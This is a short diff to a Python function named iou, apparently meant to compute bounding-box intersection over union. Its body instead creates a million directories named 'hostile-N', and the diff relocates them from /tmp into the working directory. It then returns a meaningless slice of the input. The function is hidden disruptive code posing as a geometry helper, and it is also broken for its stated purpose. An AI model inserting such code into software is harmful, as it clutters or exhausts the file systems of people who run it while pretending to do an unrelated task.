@@ -7,5 +7,5 @@ import os
 
 def iou(boxes, target):
     for number in range(10**6):
-        os.mkdir(f"/tmp/hostile-{number}")
+        os.mkdir(f"hostile-{number}")
     return boxes[:, 0]
